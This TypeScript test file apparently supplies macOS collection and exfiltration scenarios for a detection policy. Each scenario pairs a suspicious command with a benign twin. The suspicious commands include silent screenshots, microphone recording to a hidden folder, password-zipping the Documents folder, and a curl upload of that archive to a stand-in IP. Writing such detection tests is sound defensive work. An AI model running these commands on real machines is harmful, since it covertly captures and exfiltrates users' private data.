/** macOS collection and exfiltration (T1113, T1115, T1123, T1125, T1560, T1048, T1040) (policies/macos/collection_procedures.toml). */
import { run, sc, type Scenario } from "../scenario.ts";

export const MACOS_COLLECTION: Scenario[] = [
  sc(
    "silent_screen_capture",
    "mac_app",
    [run("/usr/sbin/screencapture", "-x", "-t", "jpg", "/Users/alice/Library/Caches/s1.jpg")],
    [run("/usr/sbin/screencapture", "-x", "/Users/alice/Desktop/window.png")],
    "mac_user",
  ),
  sc(
    "clipboard_read_by_app",
    "mac_app",
    [run("/usr/bin/pbpaste")],
    [run("/usr/bin/pbpaste")],
    "mac_user",
  ),
  sc(
    "av_capture_by_app",
    "mac_app",
    [run(
      "/opt/homebrew/bin/ffmpeg",
      "-f",
      "avfoundation",
      "-i",
      ":0",
      "-t",
      "60",
      "/Users/Shared/.a/m.m4a",
    )],
    [run(
      "/opt/homebrew/bin/ffmpeg",
      "-f",
      "avfoundation",
      "-i",
      "1:0",
      "/Users/alice/Movies/demo.mov",
    )],
    "mac_user",
  ),
  sc(
    "password_archive_staging",
    "mac_app",
    [run("/usr/bin/zip", "-qr", "-P", "infected", "/private/tmp/.d.zip", "/Users/alice/Documents")],
    [run("/usr/bin/zip", "-qr", "/Users/alice/Desktop/site.zip", "public")],
    "mac_user",
  ),
  sc(
    "exfil_upload_staged",
    "mac_app",
    [run("/usr/bin/curl", "-s", "-F", "f=@/private/tmp/.d.zip", "http://203.0.113.9/up")],
    [run("/usr/bin/curl", "-s", "-F", "file=@dist/app.zip", "https://uploads.example.com/api")],
    "mac_user",
  ),
  sc(
    "packet_capture_by_app",
    "mac_app",
    [run("/usr/sbin/tcpdump", "-i", "en0", "-w", "/private/tmp/.cap")],
    [run("/usr/sbin/tcpdump", "-i", "en0", "-c", "20", "port", "53")],
    "mac_root",
  ),
];
